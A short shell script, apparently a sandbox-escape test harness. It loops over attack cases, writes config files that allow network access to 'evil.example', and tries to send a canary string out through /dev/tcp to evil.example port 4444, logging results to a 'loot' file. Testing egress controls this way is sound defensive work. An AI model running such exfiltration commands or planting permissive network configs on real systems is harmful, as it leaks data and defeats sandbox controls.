#!/bin/sh
: > "$ARENA/ws/ran"
while IFS='	' read -r row file; do
  echo "$row" >> tried
  if [ "$row" = granted ]; then curl -s -m 3 http://test.example/ | sed -n "s/.*$CANARY.*/$CANARY-granted-/p" >> loot; continue; fi
  file=$(echo "$file" | sed "s#\$ARENA#$ARENA#; s#\$HOME#$HOME#")
  mkdir -p "$(dirname "$file")"
  printf 'version = 1\n[network]\nhosts = ["any", "evil.example"]\n' > "$file"
  timeout 1 bash -c "echo $CANARY-$row- > /dev/tcp/evil.example/4444"
done < .attack/rows.tsv
